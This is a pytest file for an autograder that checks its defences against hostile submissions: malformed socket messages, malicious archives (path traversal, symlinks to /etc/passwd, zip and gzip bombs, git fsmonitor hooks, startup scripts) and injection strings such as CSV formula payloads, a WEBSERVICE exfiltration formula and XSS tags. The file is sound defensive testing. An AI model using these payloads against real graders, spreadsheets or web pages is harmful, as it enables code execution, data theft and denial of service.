"""Hostile cases that need no ranks: what a rank may say, what an archive may be, what a text may do where it is shown.

Each is a case of the grader's exam in security as the files of `tests/submissions/hostile` are, with what must come of it.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import socket
import struct
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from support.hostile_texts import HOSTILE

from lockstep.course import Course
from lockstep.grading.classroom import ClassResult, Learner
from lockstep.grading.exports.class_page import class_page
from lockstep.grading.exports.gradebooks import canvas_csv, moodle_csv
from lockstep.grading.exports.html_report import html_report
from lockstep.grading.exports.items import checks_csv, items_csv
from lockstep.grading.hypotheses import EXACT, difference, show, wrong_ranks
from lockstep.grading.intake import Handed, take_in
from lockstep.grading.policy import Policy, Rounding, apply
from lockstep.grading.verdict import CheckOutcome, CheckResult, Diagnosis, ExerciseResult, Report
from lockstep.ranks.channel import HEADER, Channel, ChannelError, decode, encode, whole
from lockstep.ranks.messages import FromRank, Observe, Returned, read

MOST_HELD = 32 << 20

# What a rank says --------------------------------------------------------------------------------------------------------

BEGIN = {"event": "begin", "number": 1, "kind": "send", "group": "0", "members": [0], "group_number": 1, "of_kind": 1,
         "nbytes": 4, "shape": [1], "dtype": "float32", "time": 1}  # fmt: skip


def observed(value: str) -> bytes:
    return b'{"event":"observe","name":"x","value":' + value.encode("utf-8", "surrogatepass") + b"}"


def tensor(**note: Any) -> bytes:
    return observed(json.dumps({"$tensor": {"dtype": "float32", "shape": [1], "at": 0, "bytes": 4, **note}}))


NO_MESSAGE, IGNORED, NO_VALUE, RETURNED = "no message", "ignored", "no value", "the last counts"
SAID: dict[str, tuple[bytes, Any]] = {
    "deep lists": (observed("[" * 100_000 + "]" * 100_000), NO_MESSAGE),
    "deep dictionaries": (observed('{"a":' * 5_000 + "1" + "}" * 5_000), NO_MESSAGE),
    "just too deep": (observed("[" * 64 + "]" * 64), NO_MESSAGE),
    "never closed": (observed("[" * 1000), NO_MESSAGE),
    "more digits than a number has": (observed("9" * 5_000), NO_MESSAGE),
    "the same key twice": (b'{"event":"observe","name":"x","value":1,"value":2}', 2),
    "the event twice": (b'{"event":"observe","event":"returned","name":"x","value":1}', RETURNED),
    "half a character in a value": (observed('"\\ud800"'), "\ufffd"),
    "half a character in a key": (observed('{"\\udfff":1}'), {"\ufffd": 1}),
    "raw half a character": (observed('"\ud800"'), "\ufffd"),
    "not UTF-8": (b'{"event":"observe","name":"x","value":"\xff"}', NO_MESSAGE),
    "UTF-16": ('{"event":"observe","name":"x","value":7}'.encode("utf-16"), 7),
    "a null byte": (observed('"a\\u0000b"'), "a\0b"),
    "not an object": (b'["observe","x",1]', NO_MESSAGE),
    "nothing at all": (b"", NO_MESSAGE),
    "a number as its name": (b'{"event":"observe","name":1,"value":1}', IGNORED),
    "an event of the supervisor's": (b'{"event":"drawn","number":0.5}', IGNORED),
    "an event for the client": (b'{"event":"finished","end":{}}', IGNORED),
    "an event that is a list": (b'{"event":["observe"],"name":"x","value":1}', IGNORED),
    "no event": (b'{"name":"x","value":1}', IGNORED),
    "a float for a count": (json.dumps({**BEGIN, "number": 1.5}).encode(), IGNORED),
    "a text for a shape": (json.dumps({**BEGIN, "shape": "1"}).encode(), IGNORED),
    "true for a number": (json.dumps({**BEGIN, "number": True}).encode(), IGNORED),
    "an infinite time": (json.dumps({**BEGIN, "time": float("inf")}).encode(), IGNORED),
    "a role that there is not": (b'{"event":"hello","role":"judge"}', IGNORED),
    "a tensor of another's bytes": (tensor(at=4), NO_VALUE),
    "a tensor before its blob": (tensor(at=-4), NO_VALUE),
    "a tensor of no bytes": (tensor(bytes=0, shape=[10**9]), NO_VALUE),
    "a tensor of negative bytes": (tensor(bytes=-1), NO_VALUE),
    "a tensor too large for its bytes": (tensor(shape=[10**6]), NO_VALUE),
    "a tensor of negative extent": (tensor(shape=[-1]), 1),
    "a tensor of huge extent": (tensor(shape=[2**70]), NO_VALUE),
    "a tensor of no type": (tensor(dtype="os"), NO_VALUE),
    "a tensor of a function": (tensor(dtype="load"), NO_VALUE),
    "a tensor of a hidden name": (tensor(dtype="__builtins__"), NO_VALUE),
    "a tensor of a quantized type": (tensor(dtype="quint8"), NO_VALUE),
    "a tensor of an infinite place": (tensor(at=float("inf")), NO_VALUE),
    "a tensor of too many dimensions": (tensor(shape=[1] * 1000), NO_VALUE),
    "a tensor's note that is a list": (observed('{"$tensor":[1,2]}'), NO_VALUE),
    "two tensors of the same bytes": (observed(json.dumps([{"$tensor": {"dtype": "float32", "shape": [1], "at": 0, "bytes": 4}}] * 2)), NO_VALUE),
}  # fmt: skip


@pytest.mark.parametrize("name", SAID)
def test_what_a_rank_says(name: str) -> None:
    """It is no message and ends the conversation, or is ignored, or is a value that holds no more than it says."""
    header, expected = SAID[name]
    ours, theirs = socket.socketpair()
    tracemalloc.start()
    try:
        with ours, theirs:
            theirs.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            theirs.sendall(HEADER.pack(len(header), 4) + header + bytes(4))
            try:
                ((message, blob),) = Channel(ours).receive() or []
            except ChannelError:
                assert expected == NO_MESSAGE
                return
        try:
            taken = read(FromRank, whole(message))
        except ValueError:
            assert expected == IGNORED
            return
        if not isinstance(taken, Observe):
            assert expected == RETURNED and isinstance(taken, Returned)
            return
        try:
            value = decode(taken.value, blob)
        except ChannelError:
            assert expected == NO_VALUE
            return
        assert getattr(value, "numel", lambda: value)() == expected
        assert tracemalloc.get_traced_memory()[1] < MOST_HELD
    finally:
        tracemalloc.stop()


LIES = {
    "a header of 4 GiB": (0xFFFFFFFF, 0),
    "a blob of 4 GiB": (2, 0xFFFFFFFF),
    "a blob just too large": (2, (256 << 20) + 1),
}


@pytest.mark.parametrize("name", LIES)
def test_a_length_is_not_believed(name: str) -> None:
    """Nothing is kept ready for what is announced."""
    ours, theirs = socket.socketpair()
    with ours, theirs:
        theirs.sendall(HEADER.pack(*LIES[name]) + b"{}")
        with pytest.raises(ChannelError):
            Channel(ours).receive()


STRANGE: dict[str, Any] = {
    "not a number": float("nan"), "infinite": float("inf"), "minus nothing": -0.0, "a huge number": 10**400, "a text": "1.0",
    "true": True, "a list of itself's length": [1.0], "nothing": None, "a dictionary": {"1.0": 1.0}, "an empty list": [], "a nested one": [[[[1.0]]]],
}  # fmt: skip


@pytest.mark.parametrize("name", STRANGE)
def test_a_strange_value_is_not_the_right_one(name: str) -> None:
    """Compared with 1.0, or with a tensor of it, after the way through a channel. What breaks is a failed check."""
    import torch

    value = decode(*encode(STRANGE[name]))
    for right in (1.0, torch.ones(1), torch.ones(()), [1.0, 2.0], {"a": 1.0}):
        if value == [1.0] and isinstance(right, torch.Tensor) and right.dim():
            continue  # it is what the tensor holds
        try:
            assert wrong_ranks([value], right, EXACT) == [0]
            assert difference(value, right) is not None
        except (TypeError, ValueError, LookupError, AttributeError, ArithmeticError, RuntimeError):
            continue
    assert len(show(value)) < 1000


# What an archive is ------------------------------------------------------------------------------------------------------

GOOD = b"def train_ddp():\n    return 1\n"


def zipped(*entries: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return file.getvalue()


def tarred(change: Callable[[tarfile.TarInfo], None], name: str = "train_ddp.py", **headers: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(GOOD)
        info.pax_headers = headers
        change(info)
        archive.addfile(info, io.BytesIO(GOOD))
    return file.getvalue()


def nothing(info: tarfile.TarInfo) -> None:
    pass


def changed(data: bytes, *places: tuple[int, int, str, int]) -> bytes:
    """A zip of one file with numbers put into its headers: 0 for the file's own, 1 for the directory's."""
    found = bytearray(data)
    for header, offset, form, value in places:
        struct.pack_into(form, found, offset + (found.index(b"PK\1\2") if header else 0), value)
    return bytes(found)


def overlapping() -> bytes:
    """A zip whose files are all the first one's bytes."""
    data = bytearray(zipped(*((f"{number}.bin", bytes(1 << 20)) for number in range(3))))
    at = data.find(b"PK\1\2")
    while at >= 0:
        struct.pack_into("<I", data, at + 42, 0)
        at = data.find(b"PK\1\2", at + 4)
    return bytes(data)


def nested(depth: int) -> bytes:
    data = zipped(("train_ddp.py", GOOD))
    for number in range(depth):
        data = zipped((f"{number}.zip", data))
    return data


def linked() -> bytes:
    info: Any = zipfile.ZipInfo("train_ddp.py")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zipped((info, b"/etc/passwd"))


def announced(size: int) -> bytes:
    """A tar whose only file says that it is so large, and is not there."""
    info = tarfile.TarInfo("train_ddp.py")
    info.size = size
    return info.tobuf() + GOOD


def notebook(source: Any) -> bytes:
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": source}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


SPARSE = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,30", "GNU.sparse.size": str(1 << 40)}
TAKEN, REFUSED = True, False
ARCHIVES: dict[str, tuple[str, bytes, bool]] = {
    "a path to the top": ("zip", zipped(("/train_ddp.py", GOOD)), REFUSED),
    "a drive": ("zip", zipped(("C:/train_ddp.py", GOOD)), REFUSED),
    "a path up, with backslashes": ("zip", zipped(("..\\..\\train_ddp.py", GOOD)), REFUSED),
    "a path up and back": ("zip", zipped(("a/../train_ddp.py", GOOD)), REFUSED),
    "a share": ("zip", zipped(("\\\\host\\share\\train_ddp.py", GOOD)), REFUSED),
    "a pax header that moves a file": ("tar", tarred(nothing, path="/etc/train_ddp.py"), REFUSED),
    "a pax header with a wrong size": ("tar", tarred(nothing, size="-1"), REFUSED),
    "a hard link": ("tar", tarred(lambda info: (setattr(info, "type", tarfile.LNKTYPE), setattr(info, "linkname", "/etc/passwd"))[0]), REFUSED),
    "a link": ("tar", tarred(lambda info: (setattr(info, "type", tarfile.SYMTYPE), setattr(info, "linkname", "../../canary"))[0]), REFUSED),
    "a device": ("tar", tarred(lambda info: setattr(info, "type", tarfile.CHRTYPE)), REFUSED),
    "a pipe": ("tar", tarred(lambda info: setattr(info, "type", tarfile.FIFOTYPE)), REFUSED),
    "a mode with setuid": ("tar", tarred(lambda info: setattr(info, "mode", 0o7777)), TAKEN),
    "an owner who is root": ("tar", tarred(lambda info: setattr(info, "uid", 0)), TAKEN),
    "a folder with the file's name": ("zip", zipped(("train_ddp.py/x", GOOD)), REFUSED),
    "two with one name": ("zip", zipped(("train_ddp.py", GOOD), ("train_ddp.py", b"x = 1\n")), REFUSED),
    "the same in other letters": ("zip", zipped(("train_ddp.py", GOOD), ("TRAIN_DDP.PY", b"x = 1\n")), TAKEN),
    "a script that runs at a start": ("zip", zipped(("train_ddp.py", GOOD), ("sitecustomize.py", b"1/0"), ("conftest.py", b"1/0"), ("x.pth", b"import os")), TAKEN),
    "a module of the library's name": ("zip", zipped(("train_ddp.py", GOOD), ("torch/__init__.py", b"1/0"), ("lockstep.py", b"1/0")), TAKEN),
    "bytecode": ("zip", zipped(("train_ddp.py", GOOD), ("__pycache__/train_ddp.cpython-311.pyc", b"x")), TAKEN),
    "a bomb beside it": ("zip", zipped(("train_ddp.py", GOOD), ("zeros.bin", bytes(20 << 20))), TAKEN),
    "a bomb of its name": ("zip", zipped(("train_ddp.py", bytes(20 << 20))), REFUSED),
    "a name that runs right to left": ("zip", zipped(("\u202eyp.pdd_niart", GOOD)), REFUSED),
    "a name that looks the same": ("zip", zipped(("trаin_ddp.py", GOOD)), TAKEN),  # by what it defines
    "a number that is another's": ("zip", zipped(("bob_1_assignsubmission_file_/train_ddp.py", GOOD)), TAKEN),
    "half a zip": ("zip", zipped(("train_ddp.py", GOOD))[:60], REFUSED),
    "no archive": ("zip", b"MZ" + bytes(2000), REFUSED),
    "a tar that calls itself a zip": ("zip", tarred(nothing), TAKEN),
    "files that share their bytes": ("zip", overlapping(), REFUSED),
    "a file under a password": ("zip", changed(zipped(("train_ddp.py", GOOD)), (0, 6, "<H", 1), (1, 8, "<H", 1)), REFUSED),
    "a method of nobody": ("zip", changed(zipped(("train_ddp.py", GOOD)), (0, 8, "<H", 99), (1, 10, "<H", 99)), REFUSED),
    "a wrong sum": ("zip", changed(zipped(("train_ddp.py", GOOD)), (0, 14, "<I", 7), (1, 16, "<I", 7)), REFUSED),
    "a size that is a lie": ("zip", changed(zipped(("train_ddp.py", GOOD)), (0, 22, "<I", 3), (1, 24, "<I", 3)), REFUSED),
    "a place outside of the file": ("zip", changed(zipped(("train_ddp.py", GOOD)), (1, 42, "<I", 0xFFFFFFF0)), REFUSED),
    "files without number": ("zip", zipped(*((f"{number}.txt", b"") for number in range(6_000)), ("train_ddp.py", GOOD)), REFUSED),
    "archives within each other": ("zip", nested(6), REFUSED),
    "a hundred bombs": ("zip", zipped(*((f"{number}.zip", zipped(("z", bytes(1 << 18)))) for number in range(100)), ("train_ddp.py", GOOD)), TAKEN),
    "a link in a zip": ("zip", linked(), REFUSED),
    "a terabyte that is announced": ("tar", announced(1 << 40), REFUSED),
    "an exabyte in base 256": ("tar", announced(1 << 60), REFUSED),
    "a file full of holes": ("tar", tarred(nothing, **SPARSE), REFUSED),
    "a bomb of gzip": ("tar.gz", gzip.compress(bytes(100 << 20), 1), REFUSED),
    "gzip within gzip": ("tar.gz", gzip.compress(gzip.compress(tarred(nothing))), REFUSED),
    "a null byte in a name": ("zip", zipped(("train_ddp.pyX", GOOD)).replace(b"train_ddp.pyX", b"train_ddp.py\0"), REFUSED),
    "a line break in a name": ("zip", zipped(("train_ddp.py\n", GOOD)), TAKEN),
    "a stream beside the file": ("zip", zipped(("train_ddp.py:hidden", GOOD)), REFUSED),
    "a path of a thousand folders": ("zip", zipped(("a/" * 1_000 + "train_ddp.py", GOOD)), REFUSED),
    "a name of 60,000 letters": ("zip", zipped(("a" * 60_000, b""), ("train_ddp.py", GOOD)), TAKEN),
    "a notebook too deep to read": ("ipynb", b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b"}", REFUSED),
    "a notebook of numbers": ("ipynb", notebook(10**300), REFUSED),
    "a notebook with commands": ("zip", zipped(("x.ipynb", notebook("%%bash\ntouch ~/hostile-left\n")), ("train_ddp.py", GOOD)), TAKEN),
    "a policy and grades of one's own": ("zip", zipped(("autograder/policy.toml", b"x"), ("grading.json", b"{}"), ("grades.csv", b"bob,0"), ("train_ddp.py", GOOD)), TAKEN),
    "a hook of git's": ("zip", zipped((".git/config", b"[core]\nfsmonitor = touch x\n"), (".git/hooks/post-checkout", b"#!/bin/sh\n"), ("train_ddp.py", GOOD)), TAKEN),
    "metadata of one's own": ("zip", zipped(("submission_metadata.yml", b"mallory:\n  :submitters:\n  - :name: bob\n"), ("train_ddp.py", GOOD)), TAKEN),
}  # fmt: skip


@pytest.mark.parametrize("name", ARCHIVES)
def test_what_an_archive_is(name: str, tmp_path: Path, course: Course) -> None:
    """Mallory's file is taken, or not; bob's always is, and nothing lies anywhere else."""
    suffix, data, taken = ARCHIVES[name]
    source, scratch = tmp_path / "class", tmp_path / "scratch"
    source.mkdir()
    (source / f"mallory.{suffix}").write_bytes(data)
    (source / "bob.zip").write_bytes(zipped(("train_ddp.py", GOOD)))
    tracemalloc.start()
    found = {one.id: one for one in take_in(source, scratch, course)}
    held = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert held < MOST_HELD and set(found) == {"bob", "mallory"}
    mallory, bob = found["mallory"], found["bob"]
    assert bob.files == ("train_ddp.py",) and not bob.refused and (bob.folder / "train_ddp.py").read_bytes() == GOOD
    assert mallory.files == (("train_ddp.py",) if taken else ()) and (taken or mallory.refused)
    files = {path for path in tmp_path.rglob("*") if not path.is_dir()} - set(source.iterdir())
    assert files == {one.folder / file for one in found.values() for file in one.files}
    for path in files:
        assert path.read_bytes() == GOOD and not path.is_symlink() and not path.stat().st_mode & 0o7111
    assert all(line.isprintable() for line in (*mallory.refused, *mallory.notes))


# What a text does where it is shown ------------------------------------------------------------------------------------

MARKUP = [
    *HOSTILE, "=WEBSERVICE(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", "\u200b=1+1", "%0A=1+1", "-2+3+cmd|' /C calc'!A0", "<svg/onload=alert(1)>",
    "{{7*7}}", "{% raw %}", "${7*7}", "<!--", "--><script>", "<![CDATA[x", "\u2028=1", "&#61;1+1", "a\0b", "\x85=1", "<style>*{display:none}</style>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "'\"><img src=x onerror=y>",
]  # fmt: skip
TAG = re.compile(r"<\s*(script|svg|img|style|base|meta|iframe|object|embed)\b[^>]*>", re.IGNORECASE)


def classful(text: str) -> ClassResult:
    """A class whose only learner has written this wherever a learner can write."""
    found = Diagnosis("raised", text, text, (0,), text, 3, "", text, text)
    check = CheckResult("the title", "test_x", CheckOutcome.FAILED, found, "", text)
    report = Report(7, (ExerciseResult("train_ddp", (check,), 1.0, text),), isolation="sandbox")
    handed = Handed(
        "ada", text, Path("/nowhere"), ("train_ddp.py",), refused=(text,), notes=(text,), account="moodle 11"
    )
    learner = Learner(handed, report, 7, "d", 1, 1.0, "sandbox")
    return ClassResult(7, ("train_ddp",), (learner,), max_scores={"train_ddp": 1})


@pytest.mark.parametrize("text", MARKUP, ids=range(len(MARKUP)))
def test_what_a_text_does(text: str) -> None:
    """Pages gain no tag from it; in no table does a cell begin as a formula does, or end the row."""
    plain, graded = classful("x"), classful(text)
    for page in (
        lambda one: class_page(one, apply(Policy(), one)),
        lambda one: html_report(one.learners[0], apply(Policy(), one)["ada"]),
    ):
        theirs, ours = str(page(graded)), str(page(plain))
        assert len(TAG.findall(theirs)) == len(TAG.findall(ours))
        assert theirs.count("<!--") == ours.count("<!--") and theirs.count("\0") == 0
    grades = apply(Policy(), graded)
    learner = graded.learners[0]
    canvas = replace(graded, learners=(replace(learner, handed=replace(learner.handed, account="canvas 11")),))
    for table in (
        moodle_csv(graded, grades, Rounding()),
        canvas_csv(canvas, grades, Rounding(), "Lockstep"),
        items_csv(graded),
        checks_csv(graded),
    ):
        for row in csv.reader(io.StringIO(table.lstrip("\ufeff"), newline="")):
            for cell in row:
                number = re.fullmatch(r"-|-?\d+(\.\d+)?%?", cell)
                assert number or not re.match(r"[\s\u200b\u2028\x85]*[=+\-@＝＋－＠]", cell), cell


def test_the_table_is_large_enough() -> None:
    """With the files of `tests/submissions/hostile`, 300 cases and more; each of these has a verdict of its own."""
    files = len(list((Path(__file__).parents[1] / "submissions" / "hostile").glob("*/*.py")))
    assert files >= 150 and files + len(SAID) + len(LIES) + len(STRANGE) + len(ARCHIVES) + len(MARKUP) >= 300
